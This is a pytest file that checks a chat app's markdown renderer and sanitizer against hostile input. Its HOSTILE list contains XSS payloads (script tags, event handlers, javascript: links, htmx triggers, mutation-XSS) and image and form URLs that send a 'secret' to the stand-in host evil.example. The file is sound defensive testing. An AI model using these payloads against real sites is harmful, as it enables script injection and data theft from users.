import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from chatapp.lib.markdown import MAX_CHARS, render, render_inline
from chatapp.lib.sanitizing import _MATH, _TEXT, sanitize

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/)",
    "[x](/logout)",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    '![" onload="alert(1)](https://evil.example/)',
    "<https://a.example/' onmouseover=alert(1)>",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "\' onclick=alert(1) a=")',
    '<div hx-get="/logout" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)">x</div>',
    '<div id="composer" hx-swap-oob="true">x</div>',
    "<style>*{display:none}</style><form action=https://evil.example><input></form>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| <b onclick=alert(1)> | [x](javascript:1) |\n|:--|--:|\n| <img src=x> | `<i>` |",
    r"$\text{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{color:red}{x} \class{composer}{y} \unicode{<}$$",
    "$<img src=x onerror=alert(1)>$",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><base href=//e.example>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[\u202egnp.exe](https://evil.example/exe.png)",
    "mailto:a@example.com?subject=<script>",
]
ATTRIBUTES = {
    *("href", "title", "target", "rel", "start", "class", "tabindex", "role", "aria-label", "dir"),
    *("type", "data-copy", "data-wrap", "display", "alttext"),
    *("stretchy", "fence", "form", "separator", "accent", "accentunder", "movablelimits"),
    *("width", "height", "depth", "lspace", "rspace", "minsize", "maxsize", "linethickness"),
    *("mathvariant", "displaystyle", "scriptlevel", "columnalign", "rowspacing", "notation"),
}


def elements(html):
    return BeautifulSoup(html, "html.parser").find_all(True)


def assert_only_allowed(html):
    for node in elements(html):
        assert node.name in _TEXT | _MATH, node.name
        assert set(node.attrs) <= ATTRIBUTES, node.attrs
        assert node.get("href", "https://").startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_of_a_hostile_text_is_harmless(text):
    for end in range(1, len(text) + 1):
        assert_only_allowed(render(text[:end]))
        assert_only_allowed(render_inline(text[:end]))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "**", "> ", "- ", "`", " "]), max_size=8))
def test_hostile_pieces_are_harmless_together(pieces):
    assert_only_allowed(render("".join(pieces)))


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("ab1 \n\t`*_~[]()<>!#>-+|:\\$&{}\"'\x00\r\u202e"), max_size=80)
)
def test_no_text_breaks_it(text):
    assert_only_allowed(render(text))


def test_the_second_wall_stands_without_the_first():
    html = sanitize(
        '<p id="a" style="x" hx-get="/y" data-z="1" class="composer" onclick="z">text</p>'
    )

    assert html == "<p>text</p>"


def test_an_image_is_named_and_never_fetched():
    html = render("![a <b> chart](https://evil.example/?q=secret)")

    assert "<img" not in html
    assert "Image not loaded: a &lt;b&gt; chart" in html


def test_a_link_opens_elsewhere_and_says_where_it_leads():
    assert render("[here](https://a.example/x?a=1&b=2)") == (
        '<p><a href="https://a.example/x?a=1&amp;b=2" title="https://a.example/x?a=1&amp;b=2" '
        'target="_blank" rel="noopener noreferrer nofollow ugc">here</a></p>\n'
    )


def test_a_bare_address_becomes_a_link_and_a_bare_host_does_not():
    html = render("See https://a.example/x and b.example or c@d.example, ftp://e.example.")

    assert [node.text for node in elements(html) if node.name == "a"] == ["https://a.example/x"]


def test_a_definition_of_a_reference_stays_readable():
    assert "[1]: " in render("See [1].\n\n[1]: https://a.example")


def test_code_is_coloured_by_classes_and_can_be_copied():
    html = render("```python\nreturn 1\n```")

    assert '<span class="tk">return</span> <span class="tn">1</span>' in html
    assert "data-copy" in html
    assert 'aria-label="Code, python"' in html


def test_code_keeps_its_first_and_last_blank_lines():
    assert "<code>\n\nx\n\n</code>" in render("```nothing-known\n\n\nx\n\n```")


def test_unfinished_code_is_not_coloured():
    assert "<code>return 1\n</code>" in render("```python\nreturn 1\n", unfinished=True)


def test_a_table_scrolls_in_a_box_with_a_name_and_keeps_its_alignment():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert '<div class="table" tabindex="0" role="group" aria-label="Table">' in html
    assert '<td>1</td>\n<td class="right">2</td>' in html


@pytest.mark.parametrize("text", ["$a^2$", r"\(a^2\)", "$$\na^2\n$$", "\\[\na^2\n\\]", "x $$a^2$$"])
def test_mathematics_becomes_mathml_with_its_source(text):
    assert '<math alttext="a^2"' in render(text)


def test_mathematics_that_fails_stays_as_it_was_written():
    assert render(r"$\frac{$") == '<p><code class="math">\\frac{</code></p>\n'


def test_prices_are_not_mathematics():
    assert render("From $5 to $10, or $3-$4.") == "<p>From $5 to $10, or $3-$4.</p>\n"


def test_tasks_have_boxes():
    assert render("- [x] done\n- [ ] *open*") == (
        "<ul>\n<li>☑ done</li>\n<li>☐ <em>open</em></li>\n</ul>\n"
    )


def test_headings_begin_below_those_of_the_page():
    assert render("# 1\n\n## 2\n\n### 3\n\n###### 6") == (
        "<h3>1</h3>\n<h3>2</h3>\n<h4>3</h4>\n<h6>6</h6>\n"
    )


def test_a_text_past_the_limit_is_shown_as_it_is():
    html = render("**b** <i>" + "x" * MAX_CHARS)

    assert html.startswith('<pre class="plain" dir="auto">**b** &lt;i&gt;xxx')


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "*a " * 15_000, "> " * 20_000 + "x", "`" * 20_000 + "a", "$" + "{" * 3_000 + "$",
     "- " * 10_000, "![" * 10_000, "\\(" * 10_000, "|" * 20_000 + "\n" + "|-" * 10_000],
    ids=lambda text: text[:4],
)  # fmt: skip
def test_pathological_texts_take_seconds_at_most(text):
    start = time.process_time()

    assert_only_allowed(render(text)[:2_000])

    assert time.process_time() - start < 10
